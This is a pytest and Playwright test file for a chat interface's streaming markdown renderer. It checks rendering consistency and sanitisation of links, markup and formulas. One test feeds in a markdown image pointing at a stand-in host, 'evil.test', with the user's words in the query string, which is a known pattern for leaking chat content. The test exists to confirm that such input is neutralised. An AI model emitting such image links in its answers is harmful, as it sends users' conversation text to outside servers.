"""A message is drawn the same however it arrived, only once for each block, and never as anything but words."""

from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.markdown_samples import FORMULAS, HEAVY, LINKS, MARKUP, RESTLESS, RICH, long_answer

# `draw(text)` gives what a text looks like when it is read in one go, `stream(text, ends)` after it grew to each of these
# lengths; both as markup.
STAGE = """async ([play, ...given]) => {
  const { Markdown } = await import("/js/models/markdown.js")
  const { Prose } = await import("/js/models/prose.js")
  const markdown = await Markdown.load()
  const place = () => document.body.appendChild(document.createElement("div"))
  const draw = (text) => {
    const prose = new Prose(place(), markdown, Infinity)
    prose.draw(text, true)
    return prose.element.innerHTML
  }
  const stream = (text, ends) => {
    const prose = new Prose(place(), markdown)
    for (const end of ends) prose.draw(text.slice(0, end), false)
    prose.draw(text, true)
    return prose
  }
  return (0, eval)(play)({ markdown, Prose, place, draw, stream }, ...given)
}"""


# Every element, with its attributes, of texts that grew letter by letter.
GROW = """({ stream }, texts) => texts.flatMap((text) => {
  const { element } = stream(text, Array.from({ length: text.length }, (_, i) => i))
  return Array.from(element.querySelectorAll("*"), (each) => [each.localName, ...each.getAttributeNames()])
})"""


def _play(page: Page, play: str, *given: object) -> Any:
    return page.evaluate(STAGE, [play, *given])


def test_a_text_that_grows_letter_by_letter_looks_like_one_that_was_there(modules: Page) -> None:
    play = """({ draw, stream }, texts) => texts.filter((text) => {
      const ends = Array.from({ length: text.length }, (_, i) => i)
      return stream(text, ends).element.innerHTML !== draw(text)
    })"""
    assert _play(modules, play, [RICH, *RESTLESS]) == []


def test_every_single_cut_of_a_rich_text_looks_like_the_whole(modules: Page) -> None:
    play = """({ draw, stream }, text) => {
      const whole = draw(text)
      const differ = []
      for (let i = 0; i < text.length; i++) {
        if (stream(text, [i]).element.innerHTML !== whole) differ.push(i)
      }
      return differ
    }"""
    assert _play(modules, play, RICH) == []


def test_a_long_answer_in_random_pieces_is_drawn_once_a_block(modules: Page) -> None:
    play = """({ draw, stream, markdown }, text) => {
      const tree = markdown.tree.bind(markdown)
      const whole = draw(text)
      const count = (ends) => {
        let trees = 0
        markdown.tree = (raw) => (trees++, tree(raw))
        const prose = stream(text, ends)
        return [prose.element.innerHTML === whole, prose.finished, trees]
      }
      let seed = 7
      const random = (below) => (seed = (seed * 48271) % 2147483647) % below
      const ends = []
      for (let at = 0; at < text.length; at += 1 + random(400)) ends.push(at)
      return [count([]), count(ends), ends.length]
    }"""
    (_, blocks, trees), (is_equal, blocks_grown, trees_grown), frames = _play(
        modules, play, long_answer(50_000)
    )
    assert is_equal
    assert blocks > 300
    # Rows of a table come one by one instead of eight at a time; else a finished block is a finished block.
    assert blocks <= blocks_grown <= 1.5 * blocks
    # Each frame draws its open rest beside what it finished: at most the paragraph and the formula after it.
    assert trees_grown <= blocks_grown + 2 * frames
    assert trees <= blocks


def test_what_is_finished_stays_the_same_node_and_stays_selected(modules: Page) -> None:
    play = """({ Prose, place, markdown }) => {
      const prose = new Prose(place(), markdown)
      prose.draw("First **words**.\\n\\nSecond\\n", false)
      const first = prose.element.firstElementChild
      getSelection().selectAllChildren(first)
      let text = "First **words**.\\n\\nSecond\\n"
      for (let i = 0; i < 50; i++) prose.draw((text += `\\nword ${i}\\n\\n- a\\n- b\\n`), i === 49)
      return [prose.element.firstElementChild === first, String(getSelection()), prose.element.childElementCount > 50]
    }"""
    assert _play(modules, play) == [True, "First words.", True]


def test_code_that_grows_keeps_its_box_and_its_letters(modules: Page) -> None:
    play = """({ Prose, place, markdown }) => {
      const prose = new Prose(place(), markdown)
      const code = "x = 1\\n".repeat(3000)
      prose.draw("```py", false)
      prose.draw("```python\\n" + code.slice(0, 7), false)
      const box = prose.element.querySelector(".code")
      for (let i = 7; i < code.length; i += 301) prose.draw("```python\\n" + code.slice(0, i), false)
      prose.draw("```python\\n" + code + "```\\n\\nafter", true)
      const shown = box.querySelector("code").textContent
      const parts = box.querySelectorAll(".code__part").length
      return [box.isConnected, shown === code.trimEnd(), parts, prose.element.lastElementChild.textContent]
    }"""
    assert _play(modules, play) == [True, True, 5, "after"]


def test_a_drawing_stops_when_its_time_is_over_and_goes_on_later(modules: Page) -> None:
    play = """({ Prose, place, markdown, draw }, text) => {
      const prose = new Prose(place(), markdown)
      let turns = 1
      while (!prose.draw(text, true, 0)) turns++
      return [prose.element.innerHTML === draw(text), turns > 100]
    }"""
    assert _play(modules, play, long_answer(20_000)) == [True, True]


def test_a_text_that_was_replaced_is_drawn_afresh(modules: Page) -> None:
    play = """({ Prose, place, markdown, draw }) => {
      const prose = new Prose(place(), markdown)
      prose.draw("One\\n\\n- two\\n- three", false)
      prose.draw("Another\\n\\n- four", true)
      const first = prose.element.innerHTML === draw("Another\\n\\n- four")
      prose.draw("Another\\n\\n- four and more", false)
      prose.draw("Another\\n\\n- four and more", true)
      return [first, prose.element.innerHTML === draw("Another\\n\\n- four and more")]
    }"""
    assert _play(modules, play) == [True, True]


def test_each_kind_of_thing_is_drawn(modules: Page) -> None:
    _play(modules, "({ stream }, text) => { stream(text, []) }", RICH)
    for drawn in ("h3", "h4", "strong", "em", "del", "p code", "ul ul ol", "blockquote ul", "hr", "p br"):
        assert modules.locator(drawn).count() > 0, drawn
    assert modules.locator("ol[start='3']").count() == 1
    assert modules.locator("li.task input:disabled").count() == 2
    assert modules.locator("th[align=right], td[align=right]").count() == 3
    assert modules.locator(".table-box[tabindex='0'] td code").inner_text() == "a|b"
    assert modules.locator(".code__language").all_inner_texts() == ["python", ""]
    assert "$5 and $10" in modules.locator("body").inner_text()
    link = modules.locator("a").first
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"
    assert link.get_attribute("href") == "https://example.org/a?b=1&c"


def test_code_gets_its_colours_and_formulas_their_form(modules: Page) -> None:
    _play(modules, "({ stream }, text) => { stream(text, []) }", RICH)
    expect(modules.locator(".hljs-keyword").first).to_have_text("def")
    expect(modules.locator(".formula-box .katex")).to_have_count(4)
    expect(modules.locator(".formula-box--display")).to_have_count(2)
    expect(modules.locator(".formula")).to_have_count(0)


@pytest.mark.parametrize(
    ("text", "formulas"),
    [
        ("It costs $5 and $10.", 0),
        ("From $5-$10 or US$5 to US$6", 0),
        ("$HOME/$USER and $ x $ and \\$a\\$", 0),
        ("`$a$` and\n\n```\n$a$\n```", 0),
        ("$a$, ($b$) and $c$.", 3),
        ("\\(a\\) \\[b\\] $$c$$", 3),
        ("- item:\n  $$\n  a\n  $$", 1),
    ],
)
def test_money_is_no_formula(modules: Page, text: str, formulas: int) -> None:
    found = _play(
        modules, "({ markdown }, text) => markdown.tree(text).querySelectorAll('.formula').length", text
    )
    assert found == formulas


def test_a_link_that_does_more_than_lead_away_is_only_text(modules: Page) -> None:
    for name, *attributes in _play(modules, GROW, LINKS):
        assert name in ("p", "a", "br")
        assert set(attributes) <= ({"href", "title", "rel", "target", "class"} if name == "a" else set())
    addresses = modules.locator("a").evaluate_all("links => links.map((link) => link.protocol + link.host)")
    assert set(addresses) == {"https:evil.test"}


def test_markup_is_only_text(modules: Page) -> None:
    allowed = [
        "p",
        "a",
        "br",
        "code",
        "pre",
        "div",
        "span",
        "button",
        "h3",
        "ul",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    ]
    for name, *attributes in _play(modules, GROW, MARKUP):
        assert name in allowed
        assert not [
            each for each in attributes if each.startswith("on") or each in ("style", "src", "srcdoc")
        ]


def test_a_picture_is_a_link_that_says_where_it_leads(modules: Page) -> None:
    play = "({ draw }, text) => draw(text)"
    html = _play(modules, play, "![a cat](https://evil.test/?q=what-you-said)")
    assert "<img" not in html
    assert 'class="picture-link"' in html and 'href="https://evil.test/?q=what-you-said"' in html


def test_a_formula_that_means_harm_stays_its_source_or_stays_small(modules: Page) -> None:
    play = "({ stream }, texts) => { stream(texts.join('\\n\\n') + '\\n\\nControl: $c$', []) }"
    _play(modules, play, FORMULAS)
    expect(modules.locator("p").last.locator(".katex")).to_be_visible()
    assert modules.locator(".formula").count() > 5
    assert modules.locator(".katex a, .katex img, .katex [data-controller], .katex .button").count() == 0
    heights = "boxes => boxes.map((box) => box.getBoundingClientRect().height)"
    assert max(modules.locator(".formula-box").evaluate_all(heights)) < 3_000


def test_code_is_copied_by_a_button_also_where_there_is_no_clipboard(modules: Page) -> None:
    play = """async () => {
      const { copyText } = await import("/js/models/clipboard.js")
      Object.defineProperty(navigator, "clipboard", { value: undefined })
      const heard = new Promise((resolve) => document.addEventListener("copy", () => resolve(String(getSelection()))))
      await copyText("x = 1")
      return heard
    }"""
    assert modules.evaluate(play) == "x = 1"


def test_heavy_text_ends_and_keeps_its_letters(modules: Page) -> None:
    play = """({ stream }, text) => {
      const ends = Array.from({ length: 12 }, (_, i) => Math.floor((text.length * i) / 12))
      const { element } = stream(text, ends)
      let [nodes, depth] = [[element], 0]
      for (; nodes.length; depth++) nodes = nodes.flatMap((node) => [...node.children])
      element.remove()
      return [element.textContent.length, depth]
    }"""
    for kind, text in HEAVY.items():
        letters, depth = _play(modules, play, text)
        assert letters > 0, kind
        assert depth < 60, kind
